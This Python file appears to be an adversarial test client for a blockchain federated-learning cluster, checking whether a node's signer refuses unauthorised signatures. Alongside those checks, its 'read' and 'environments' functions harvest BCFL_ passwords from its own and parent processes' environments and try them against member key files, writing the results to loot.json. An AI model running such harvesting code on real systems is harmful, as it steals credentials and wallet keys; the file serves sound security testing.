"""The cluster's client, by somebody who is after the first node's key and its ether."""

from __future__ import annotations

import json
import os
from collections.abc import Callable, Iterator
from dataclasses import replace
from pathlib import Path
from typing import Any

import psutil
from client_app import app as honest_app  # the cluster's own
from flwr.app import Context, Message
from flwr.clientapp import ClientApp

from bcfl.chain.connection import Connection
from bcfl.consensus.contract.ledger import Ledger
from bcfl.consensus.records import RoundOrder, order_in
from bcfl.consensus.spec.domain import Commitment
from bcfl.consensus.spec.messages import commitment_message
from bcfl.contracts import artifact
from bcfl.core.errors import BcflError
from bcfl.flower.identity import signer_from
from bcfl.keys.accounts import Account

ROUND = 2


def thief(message: Message, context: Context, call_next: Callable[..., Message]) -> Message:
    order = order_in(message.content)
    mine = context.node_config["partition-id"] == 0
    if mine and isinstance(order, RoundOrder) and order.round == ROUND:
        folder = Path(str(context.run_config["run-dir"])).parent
        loot = {**signed(order, context), **read(folder)}
        (folder / "loot.json").write_text(json.dumps(loot))
    return call_next(message, context)


def signed(order: RoundOrder, context: Context) -> dict[str, Any]:
    """What the signer gives, or the name of its refusal."""
    wallet: Any = signer_from(context, 0)
    ledger = Ledger.attach(Connection(order.rpc_url), order.contract)
    domain, state = ledger.domain, ledger.state()
    said = [Commitment(ROUND, state.model, bytes([i]) * 32, state.opened_at) for i in (1, 2)]
    later = replace(said[0], round=ROUND + 1)
    stranger = f"0x{'12' * 20}"
    permit = commitment_message(domain, said[0])
    permit["primaryType"] = "Permit"
    permit["types"]["Permit"] = permit["types"].pop("Commitment")
    payment = {
        "type": 2,
        "chainId": domain.chain_id,
        "data": b"",
        "nonce": 0,
        "gas": 100_000,
        "maxFeePerGas": 10**10,
        "maxPriorityFeePerGas": 1,
    }
    contract = Connection(order.rpc_url).contract(order.contract, artifact("PeerConsensus").abi)
    direct = contract.encode("commit_direct", (ROUND, said[0].digest, said[0].timestamp))
    return {
        "address": wallet.address,
        "first": attempt(wallet.sign, commitment_message(domain, said[0])),
        "second": attempt(wallet.sign, commitment_message(domain, said[1])),
        "refused": {
            "a round to come": attempt(wallet.sign, commitment_message(domain, later)),
            "another contract": attempt(
                wallet.sign, commitment_message(replace(domain, contract=stranger), said[0])
            ),
            "another chain": attempt(
                wallet.sign, commitment_message(replace(domain, chain_id=1), said[0])
            ),
            "another type": attempt(wallet.sign, permit),
            "a payment": attempt(
                wallet.sign_transaction, {**payment, "to": stranger, "value": 10**18}
            ),
            "a deposit": attempt(
                wallet.sign_transaction, {**payment, "to": order.contract, "value": 1}
            ),
            "gas": attempt(
                wallet.sign_transaction,
                {**payment, "to": order.contract, "value": 0, "data": direct},
            ),
        },
    }


def attempt(call: Callable[[Any], Any], argument: Any) -> str:
    try:
        got = call(argument)
    except BcflError as error:
        return type(error).__name__
    return got.hex() if isinstance(got, bytes) else repr(got)


def read(folder: Path) -> dict[str, Any]:
    """Passwords within reach, and the keys that they open."""
    words = {w for environment in environments() for k, w in environment.items() if "BCFL_" in k}
    keys = []
    for path in (folder / "keys").glob("member-*.json"):
        for word in words:
            try:
                keys.append(Account.from_key_file(path, word).address)
            except BcflError:
                continue
    return {"words": sorted(words), "keys": keys}


def environments() -> Iterator[dict[str, str]]:
    """This process's, and those of all that it descends from."""
    yield dict(os.environ)
    for process in psutil.Process().parents():
        try:
            yield process.environ()
        except psutil.Error:
            continue


app = ClientApp(mods=[thief])


@app.train()
def train(message: Message, context: Context) -> Message:
    return honest_app(message, context)


@app.evaluate()
def evaluate(message: Message, context: Context) -> Message:
    return honest_app(message, context)
